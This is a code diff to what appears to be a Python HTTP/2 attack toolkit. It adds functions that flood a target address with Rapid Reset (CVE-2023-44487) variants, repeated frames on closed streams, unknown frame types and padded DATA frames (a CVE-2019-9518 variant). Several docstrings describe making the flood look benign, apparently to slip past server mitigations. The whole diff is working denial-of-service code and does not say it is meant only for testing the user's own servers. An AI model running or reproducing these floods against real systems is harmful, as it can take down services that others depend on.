@@ -28,19 +28,58 @@ def open_stream(stream, path, flags=END_HEADERS):
     return frame(HEADERS, flags, stream, request_headers(path))
 
 
-@attack
-def rapid_reset(address, until):
-    """CVE-2023-44487: streams opened and reset at once."""
+def resets(address, until, code, *more):
+    head = request_headers(UNARY, *more)
 
     def chunks():
         for first in itertools.count(1, 200):
             block = b"".join(
-                open_stream(stream, UNARY) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+                frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, struct.pack(">I", code))
                 for stream in range(first, first + 200, 2)
             )
             yield block, 200
 
     return Peer(address).flood(chunks(), until)
+
+
+@attack
+def rapid_reset(address, until):
+    """CVE-2023-44487: streams opened and reset at once."""
+    return resets(address, until, 8)
+
+
+@attack
+def rapid_reset_without_error(address, until):
+    """The same with the code that says that nothing is wrong."""
+    return resets(address, until, 0)
+
+
+@attack
+def rapid_reset_past_deadline(address, until):
+    """The same with deadlines so short that giving up looks honest."""
+    return resets(address, until, 8, (b"grpc-timeout", b"9m"))
+
+
+@attack
+def late_reset_flood(address, until):
+    """RST_STREAM over and over for a stream that is long closed."""
+    peer = Peer(address)
+    peer.send(open_stream(1, UNARY) + frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))
+    return peer.flood(itertools.repeat((frame(RST_STREAM, 0, 1, struct.pack(">I", 8)) * 1000, 1000)), until)
+
+
+@attack
+def late_data_flood(address, until):
+    """DATA over and over for a stream that is long closed: HTTP/2 says that it is to be ignored."""
+    peer = Peer(address)
+    peer.send(open_stream(1, UNARY) + frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))
+    return peer.flood(itertools.repeat((frame(DATA, 0, 1) * 1000, 1000)), until)
+
+
+@attack
+def unknown_frame_flood(address, until):
+    """Frames of a type that nobody has defined: HTTP/2 says that they are to be ignored."""
+    return Peer(address).flood(itertools.repeat((frame(0x77, 0, 0) * 1000, 1000)), until)
 
 
 @attack
@@ -101,6 +140,14 @@ def empty_data_flood(address, until):
     peer = Peer(address)
     peer.send(open_stream(1, UPLOAD))
     return peer.flood(itertools.repeat((frame(DATA, 0, 1) * 1000, 1000)), until)
+
+
+@attack
+def padding_flood(address, until):
+    """CVE-2019-9518 with frames that are not empty: they hold a byte that says that no padding follows."""
+    peer = Peer(address)
+    peer.send(open_stream(1, UPLOAD))
+    return peer.flood(itertools.repeat((frame(DATA, 0x8, 1, b"\0") * 1000, 1000)), until)
 
 
 @attack
